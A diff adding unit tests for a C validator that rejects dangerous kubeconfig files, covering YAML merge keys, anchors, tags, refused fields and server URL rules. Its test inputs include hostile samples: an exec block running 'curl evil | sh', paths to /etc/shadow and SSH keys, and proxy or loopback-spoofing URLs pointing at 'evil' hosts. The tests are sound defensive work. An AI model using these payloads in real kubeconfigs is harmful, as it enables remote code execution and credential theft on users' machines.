@@ -1055,6 +1055,297 @@ static void test_kube_structure(void **state)
   kube_text_fails("b: *a\n", "aliases");
 }
 
+/* A document whose only user is @p user_body (the lines under "  user:"). */
+#define KUBE_WITH_USER(user_body)                                                              \
+  KUBE_CLUSTERS "users:\n- name: u1\n  user:\n" user_body KUBE_CONTEXTS KUBE_CURRENT
+/* A document whose only cluster is @p cluster_body (the lines under "  cluster:"). */
+#define KUBE_WITH_CLUSTER(cluster_body)                                                        \
+  "clusters:\n- name: c1\n  cluster:\n" cluster_body KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT
+
+struct kube_case {
+  const char *yaml;
+  const char *want; /* in the message */
+};
+
+static void kube_cases_fail(const struct kube_case *cases, size_t n)
+{
+  for (size_t i = 0; i < n; i++)
+    kube_text_fails(cases[i].yaml, cases[i].want);
+}
+
+static void kube_text_ok(const char *yaml)
+{
+  struct cs_prov_error err = {.field = {0}};
+  cJSON *meta = NULL;
+  enum cs_err e = cs_kubeconfig_describe(yaml, strlen(yaml), &meta, &err);
+
+  if (e != CS_OK)
+    print_error("got %d: %s\nyaml:\n%s\n", (int)e, err.msg, yaml);
+  assert_int_equal(e, CS_OK);
+  assert_true(cJSON_IsString(cJSON_GetObjectItem(meta, "currentContext")));
+  cJSON_Delete(meta);
+}
+
+/* Issue 11: go-yaml (kubectl) honours merge keys, so `user: {<<: {exec: ...}}`
+ * gives the user an exec that a key-by-key check never saw. Every spelling
+ * of a merge is refused, wherever it stands, and the message says where. */
+static void test_kube_merge_keys(void **state)
+{
+  static const struct kube_case cases[] = {
+      /* at user level, block and flow style */
+      {KUBE_WITH_USER("    <<:\n      exec:\n        command: /bin/sh\n"
+                      "        args: [-c, 'curl evil | sh']\n"),
+       "users[0].user.<<: YAML merge keys"},
+      {KUBE_CLUSTERS "users:\n- name: u1\n  user: {<<: {exec: {command: /bin/sh, args: [-c, id]}}}\n"
+       KUBE_CONTEXTS KUBE_CURRENT,
+       "users[0].user.<<: YAML merge keys"},
+      /* after an honest field, so a first-key-only check would miss it */
+      {KUBE_WITH_USER("    token: sekrit-token-value\n    <<: {exec: {command: sh}}\n"),
+       "users[0].user.<<"},
+      /* at entry level, carrying the whole user */
+      {KUBE_CLUSTERS "users:\n- name: u1\n  <<:\n    user:\n      auth-provider:\n"
+       "        name: gcp\n" KUBE_CONTEXTS KUBE_CURRENT,
+       "users[0].<<: YAML merge keys"},
+      {KUBE_CLUSTERS "users:\n- {name: u1, <<: {user: {exec: {command: sh}}}}\n" KUBE_CONTEXTS
+       KUBE_CURRENT,
+       "users[0].<<"},
+      /* at top level, at cluster level, in a context, in a sequence item */
+      {"<<: {users: [{name: u1, user: {exec: {command: sh}}}]}\n" KUBE_CLUSTERS KUBE_CONTEXTS
+       KUBE_CURRENT,
+       "<<: YAML merge keys"},
+      {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    <<: {proxy-url: http://evil:3128}\n"),
+       "clusters[0].cluster.<<"},
+      {KUBE_CLUSTERS KUBE_USERS "contexts:\n- name: x1\n  context:\n    cluster: c1\n"
+       "    user: u1\n    <<: {namespace: kube-system}\n" KUBE_CURRENT,
+       "contexts[0].context.<<"},
+      /* nested merges, and merges inside the fields nobody interprets */
+      {KUBE_WITH_USER("    <<: {<<: {exec: {command: sh}}}\n"), "users[0].user.<<"},
+      {KUBE_WITH_USER("    token: t\n    extensions:\n    - name: e\n      extension:\n"
+                      "        <<: {a: b}\n"),
+       "users[0].user.extensions[0].extension.<<"},
+      {KUBE_WITH_USER("    as-user-extra: {<<: {scopes: [a]}}\n"),
+       "users[0].user.as-user-extra.<<"},
+      /* quoted and escaped spellings: refused although go-yaml v2 merges only plain ones */
+      {KUBE_WITH_USER("    \"<<\": {exec: {command: sh}}\n"), "users[0].user.<<: YAML merge"},
+      {KUBE_WITH_USER("    '<<': {exec: {command: sh}}\n"), "users[0].user.<<: YAML merge"},
+      {KUBE_WITH_USER("    \"\\x3c\\u003c\": {exec: {command: sh}}\n"), "users[0].user.<<"},
+      {KUBE_WITH_USER("    ? <<\n    : {exec: {command: sh}}\n"), "users[0].user.<<"},
+      /* a plain << as a value is go-yaml's merge marker too */
+      {KUBE_WITH_USER("    token: <<\n"), "users[0].user.token: YAML merge keys"},
+      {KUBE_WITH_USER("    as-groups: [a, <<]\n"), "users[0].user.as-groups[1]: YAML merge"},
+      /* through an anchor and alias: refused at the anchor, before any merge */
+      {"x-base: &b {exec: {command: sh}}\n" KUBE_CLUSTERS
+       "users:\n- name: u1\n  user:\n    <<: *b\n" KUBE_CONTEXTS KUBE_CURRENT,
+       "x-base: YAML anchors and aliases"},
+      {"extensions:\n- name: e\n  extension: &b {exec: {command: sh}}\n" KUBE_CLUSTERS
+       "users:\n- name: u1\n  user: {<<: *b}\n" KUBE_CONTEXTS KUBE_CURRENT,
+       "extensions[0].extension: YAML anchors"},
+      /* with the !!merge tag, short and verbatim, on << and on another key */
+      {KUBE_WITH_USER("    !!merge <<: {exec: {command: sh}}\n"), "users[0].user.<<: YAML tags"},
+      {KUBE_WITH_USER("    !<tag:yaml.org,2002:merge> <<: {exec: {command: sh}}\n"),
+       "users[0].user.<<: YAML tags"},
+      {KUBE_WITH_USER("    !!merge x: {exec: {command: sh}}\n"), "users[0].user.x: YAML tags"},
+  };
+
+  (void)state;
+  kube_cases_fail(cases, sizeof cases / sizeof cases[0]);
+  /* Through the provider: secret.plain named, outputs untouched, no secret echoed. */
+  expect_fail_s("kubeconfig",
+                body_with("kubeconfig", "secret",
+                          KUBE_WITH_USER("    token: sekrit-token-value\n"
+                                         "    <<: {exec: {command: /bin/sh}}\n"),
+                          NULL),
+                CS_ERR_INVALID, "secret.plain", "sekrit-token-value");
+  /* A quoted << as a value is only a string. */
+  kube_text_ok(KUBE_WITH_USER("    password: \"<<\"\n    username: '<<'\n"));
+}
+
+/* Anchors, aliases and tags of every kind, each on its own, anywhere. */
+static void test_kube_anchors_aliases_tags(void **state)
+{
+  static const struct kube_case cases[] = {
+      {KUBE_WITH_USER("    token: &t sekrit-token-value\n"), "users[0].user.token: YAML anchors"},
+      {KUBE_CLUSTERS "users:\n- name: u1\n  user: &u\n    token: t\n" KUBE_CONTEXTS KUBE_CURRENT,
+       "users[0].user: YAML anchors"},
+      {KUBE_CLUSTERS "users: &l\n- name: u1\n" KUBE_CONTEXTS KUBE_CURRENT, "users: YAML anchors"},
+      {KUBE_WITH_USER("    token: *t\n"), "users[0].user.token: YAML anchors and aliases"},
+      {KUBE_CLUSTERS "users:\n- name: u1\n  user: *u\n" KUBE_CONTEXTS KUBE_CURRENT,
+       "users[0].user: YAML anchors and aliases"},
+      {KUBE_WITH_USER("    as-groups: [a, *g]\n"), "users[0].user.as-groups[1]: YAML anchors"},
+      {KUBE_WITH_USER("    token: !foo t\n"), "users[0].user.token: YAML tags"},
+      {KUBE_WITH_USER("    token: !<tag:example.com,2024:t> t\n"), "users[0].user.token: YAML tags"},
+      {KUBE_WITH_USER("    token: ! t\n"), "users[0].user.token: YAML tags"},
+      /* !!binary would hand kubectl the decoded bytes, not what we checked */
+      {KUBE_WITH_USER("    token: !!binary c2Vrcml0\n"), "users[0].user.token: YAML tags"},
+      {KUBE_WITH_USER("    !!binary ZXhlYw==: {command: sh}\n"), "users[0].user.?: YAML tags"},
+      {KUBE_WITH_USER("    token: !!str t\n"), "users[0].user.token: YAML tags"},
+      {KUBE_CLUSTERS "users:\n- name: u1\n  user: !!map {token: t}\n" KUBE_CONTEXTS KUBE_CURRENT,
+       "users[0].user: YAML tags"},
+      {KUBE_WITH_USER("    as-groups: !!seq [a]\n"), "users[0].user.as-groups: YAML tags"},
+      {"%TAG !k! tag:example.com,2024:\n---\n" KUBE_WITH_USER("    token: !k!t t\n"),
+       "users[0].user.token: YAML tags"},
+      {"!!map\n" KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT, "the document: YAML tags"},
+  };
+
+  (void)state;
+  kube_cases_fail(cases, sizeof cases / sizeof cases[0]);
+}
+
+/* Fields kubectl reads that run a program, read a file on the consumer's
+ * machine or send traffic elsewhere, and fields credstore does not know. */
+static void test_kube_refused_fields(void **state)
+{
+  static const struct kube_case cases[] = {
+      {KUBE_WITH_USER("    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token\n"),
+       "users[0].user.tokenFile: reads the token from a file"},
+      {KUBE_WITH_USER("    client-certificate: /home/u/.ssh/id_rsa\n"
+                      "    client-key-data: LS0t\n"),
+       "users[0].user.client-certificate: names a file on the consumer's machine"},
+      {KUBE_WITH_USER("    client-certificate-data: LS0t\n    client-key: /etc/shadow\n"),
+       "users[0].user.client-key: names a file"},
+      {KUBE_WITH_USER("    client-key: /etc/shadow\n"), "client-key-data"},
+      {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    certificate-authority: /etc/ca.pem\n"),
+       "clusters[0].cluster.certificate-authority: names a file"},
+      {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    proxy-url: socks5://evil:1080\n"),
+       "clusters[0].cluster.proxy-url: would send the cluster's traffic"},
+      /* refused by name, whatever the value */
+      {KUBE_WITH_USER("    exec: ~\n"), "users[0].user.exec: users that authenticate"},
+      {KUBE_WITH_USER("    auth-provider: {name: oidc, config: {idp-issuer-url: https://i}}\n"),
+       "users[0].user.auth-provider: users that authenticate through exec or auth-provider"},
+      /* unknown fields: other cases and spellings, and at every level */
+      {KUBE_WITH_USER("    Exec: {command: sh}\n"), "users[0].user.Exec is not a kubeconfig field"},
+      {KUBE_WITH_USER("    token-file: /t\n"), "users[0].user.token-file is not a kubeconfig"},
+      {KUBE_WITH_USER("    Token: t\n"), "users[0].user.Token is not"},
+      {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    Server: https://evil\n"),
+       "clusters[0].cluster.Server is not"},
+      {KUBE_CLUSTERS KUBE_USERS "contexts:\n- name: x1\n  context:\n    cluster: c1\n"
+       "    user: u1\n    exec: sh\n" KUBE_CURRENT,
+       "contexts[0].context.exec is not"},
+      {KUBE_CLUSTERS "users:\n- name: u1\n  exec: {command: sh}\n" KUBE_CONTEXTS KUBE_CURRENT,
+       "users[0].exec is not"},
+      {"kubectl-plugins: {}\n" KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
+       "kubectl-plugins is not"},
+      {"preferences: {exec: sh}\n" KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
+       "preferences.exec is not"},
+      {KUBE_WITH_USER("    token: t\n    extensions:\n    - name: e\n      exec: sh\n"),
+       "users[0].user.extensions[0].exec is not"},
+      /* a key that might be a misplaced secret is not repeated */
+      {KUBE_WITH_USER("    sekrit-token-value+/=: x\n"), "users[0].user.? is not"},
+      {KUBE_WITH_USER("    sekrit-token-value-that-is-far-too-long-to-be-a-field-name: x\n"),
+       "users[0].user.? is not"},
+      /* shapes and duplicates, anywhere in the checked tree */
+      {KUBE_WITH_USER("    token: a\n    token: b\n"), "users[0].user.token appears twice"},
+      {KUBE_WITH_USER("    token: {a: b}\n"), "users[0].user.token must be a single value"},
+      {KUBE_WITH_USER("    as-groups: a\n"), "users[0].user.as-groups must be a list"},
+      {KUBE_WITH_USER("    as-groups: [[a]]\n"), "users[0].user.as-groups[0] must be a single"},
+      {KUBE_WITH_USER("    as-user-extra: [a]\n"), "users[0].user.as-user-extra must be a mapping"},
+      {KUBE_WITH_USER("    as-user-extra: {scopes: a}\n"),
+       "users[0].user.as-user-extra.scopes must be a list"},
+      {KUBE_WITH_USER("    extensions: [a]\n"), "users[0].user.extensions[0] must be a mapping"},
+      {"preferences: []\n" KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
+       "preferences must be a mapping"},
+      {KUBE_CLUSTERS "users: [a]\n" KUBE_CONTEXTS KUBE_CURRENT, "users[0] must be a mapping"},
+  };
+
+  (void)state;
+  kube_cases_fail(cases, sizeof cases / sizeof cases[0]);
+}
+
+/* server must be https, or http to loopback; TLS checks may be skipped only
+ * on loopback; no user info in the URL (it is shown in the metadata). */
+static void test_kube_server_rules(void **state)
+{
+  static const char *const ok[] = {
+      "https://c1:6443",        "https://10.0.0.1",       "https://[2001:db8::1]:6443/k8s",
+      "http://127.0.0.1:8080",  "http://127.1.2.3",       "http://[::1]:8080/",
+      "http://localhost:8080/api", "http://[0:0:0:0:0:0:0:1]",
+  };
+  static const struct kube_case cases[] = {
+      {KUBE_WITH_CLUSTER("    server: http://10.0.0.1:8080\n"),
+       "clusters[0].cluster.server: plain http is accepted only to a loopback host"},
+      {KUBE_WITH_CLUSTER("    server: http://c1.example.com\n"), "plain http"},
+      {KUBE_WITH_CLUSTER("    server: http://127.0.0.1.nip.io\n"), "plain http"},
+      {KUBE_WITH_CLUSTER("    server: http://localhost.evil.com:80\n"), "plain http"},
+      {KUBE_WITH_CLUSTER("    server: http://127.1\n"), "plain http"},
+      {KUBE_WITH_CLUSTER("    server: http://0177.0.0.1\n"), "plain http"},
+      {KUBE_WITH_CLUSTER("    server: http://2130706433\n"), "plain http"},
+      {KUBE_WITH_CLUSTER("    server: http://[::ffff:127.0.0.1]\n"), "plain http"},
+      {KUBE_WITH_CLUSTER("    server: http://[::1%25lo]\n"), "plain http"},
+      {KUBE_WITH_CLUSTER("    server: \"http://127.0.0.1:\"\n"), "plain http"},
+      {KUBE_WITH_CLUSTER("    server: http://127.0.0.1:80:80\n"), "plain http"},
+      {KUBE_WITH_CLUSTER("    server: http://127.0.0.1:1234567\n"), "plain http"},
+      {KUBE_WITH_CLUSTER("    server: http://127.0.0.1@evil.com/\n"),
+       "clusters[0].cluster.server must not carry a user name or password"},
+      {KUBE_WITH_CLUSTER("    server: https://admin:sekrit@c1:6443\n"),
+       "must not carry a user name or password"},
+      {KUBE_WITH_CLUSTER("    server: c1:6443\n"), "clusters[0].cluster.server must be an https"},
+      {KUBE_WITH_CLUSTER("    server: HTTPS://c1\n"), "must be an https:// URL"},
+      {KUBE_WITH_CLUSTER("    server: ftp://c1\n"), "must be an https:// URL"},
+      {KUBE_WITH_CLUSTER("    server: \"https://c1\\t/x\"\n"), "spaces or control characters"},
+      {KUBE_WITH_CLUSTER("    server: \"https://c1 x\"\n"), "spaces or control characters"},
+      {KUBE_WITH_CLUSTER("    server: https://\n"), "clusters[0].cluster.server has no host"},
+      {KUBE_WITH_CLUSTER("    server: https:///version\n"), "has no host"},
+      {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    insecure-skip-tls-verify: true\n"),
+       "clusters[0].cluster.insecure-skip-tls-verify is accepted only for a loopback server"},
+      {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    insecure-skip-tls-verify: yes\n"),
+       "insecure-skip-tls-verify"},
+      {KUBE_WITH_CLUSTER("    insecure-skip-tls-verify: on\n    server: https://10.0.0.1\n"),
+       "insecure-skip-tls-verify"},
+      /* every cluster, not only the current context's */
+      {KUBE_CLUSTERS "- name: c2\n  cluster:\n    server: http://evil.example.com\n" KUBE_USERS
+       KUBE_CONTEXTS KUBE_CURRENT,
+       "clusters[1].cluster.server: plain http"},
+  };
+  char yaml[512];
+
+  (void)state;
+  for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++) {
+    snprintf(yaml, sizeof yaml, "%s%s%s", "clusters:\n- name: c1\n  cluster:\n    server: ",
+             ok[i], "\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT);
+    kube_text_ok(yaml);
+  }
+  kube_cases_fail(cases, sizeof cases / sizeof cases[0]);
+  kube_text_ok(KUBE_WITH_CLUSTER("    server: https://c1:6443\n    insecure-skip-tls-verify: false\n"));
+  kube_text_ok(KUBE_WITH_CLUSTER("    server: https://127.0.0.1:6443\n"
+                                 "    insecure-skip-tls-verify: true\n"));
+  kube_text_ok(KUBE_WITH_CLUSTER("    server: http://localhost\n    insecure-skip-tls-verify: true\n"));
+  kube_text_ok(KUBE_WITH_CLUSTER("    server: https://c1\n    insecure-skip-tls-verify: ~\n"));
+}
+
+/* Everything a consumer needs inline still validates: tokens, basic auth,
+ * inline certificates and keys, impersonation, extensions (as minikube
+ * writes them), preferences, and JSON. */
+static void test_kube_allowed_fields(void **state)
+{
+  (void)state;
+  kube_text_ok("apiVersion: v1\nkind: Config\npreferences: {colors: true, extensions: []}\n"
+               "extensions:\n- name: tool\n  extension: {any: [thing, {x: 1}]}\n"
+               "clusters:\n- name: c1\n  cluster:\n    server: https://c1:6443\n"
+               "    certificate-authority-data: LS0tLS1CRUdJTg==\n"
+               "    tls-server-name: api.c1\n    disable-compression: true\n"
+               "    insecure-skip-tls-verify: false\n"
+               "    extensions:\n    - name: cluster_info\n      extension:\n"
+               "        provider: minikube.sigs.k8s.io\n        version: v1.32.0\n"
+               "users:\n- name: u1\n  user:\n    token: sekrit-token-value\n"
+               "    client-certificate-data: LS0tLS1CRUdJTg==\n"
+               "    client-key-data: LS0tLS1CRUdJTg==\n"
+               "    as: system:serviceaccount:ns:sa\n    as-uid: \"1234\"\n"
+               "    as-groups: [system:authenticated, scanners]\n"
+               "    as-user-extra: {scopes: [view, edit], reason: [~]}\n"
+               "    extensions: [{name: e, extension: null}]\n"
+               "- name: u2\n  user:\n    username: admin\n    password: \"p@ss: word # not a comment\"\n"
+               "- name: u3\n  user: ~\n"
+               "contexts:\n- name: x1\n  context:\n    cluster: c1\n    user: u1\n"
+               "    namespace: twistlock\n    extensions:\n    - name: context_info\n"
+               "      extension: {last-update: 'Mon, 01 Jan 2024'}\n"
+               "current-context: x1\n");
+  kube_text_ok("{\"apiVersion\":\"v1\",\"clusters\":[{\"name\":\"c1\",\"cluster\":{\"server\":"
+               "\"https://j\",\"certificate-authority-data\":\"LS0t\"}}],\"users\":[{\"name\":"
+               "\"u1\",\"user\":{\"username\":\"a\",\"password\":\"b\"}}],\"contexts\":[{\"name\":"
+               "\"x1\",\"context\":{\"cluster\":\"c1\",\"user\":\"u1\"}}],\"current-context\":\"x1\","
+               "\"preferences\":{}}");
+}
+
 static void test_kube_malformed(void **state)
 {
   static const char *const bad[] = {
@@ -1289,6 +1580,11 @@ int main(void)
       cmocka_unit_test(test_kube_exec_and_auth_provider),
       cmocka_unit_test(test_kube_bad_context),
       cmocka_unit_test(test_kube_structure),
+      cmocka_unit_test(test_kube_merge_keys),
+      cmocka_unit_test(test_kube_anchors_aliases_tags),
+      cmocka_unit_test(test_kube_refused_fields),
+      cmocka_unit_test(test_kube_server_rules),
+      cmocka_unit_test(test_kube_allowed_fields),
       cmocka_unit_test(test_kube_malformed),
       cmocka_unit_test(test_kube_huge_and_deep),
       cmocka_unit_test(test_kube_mutations),
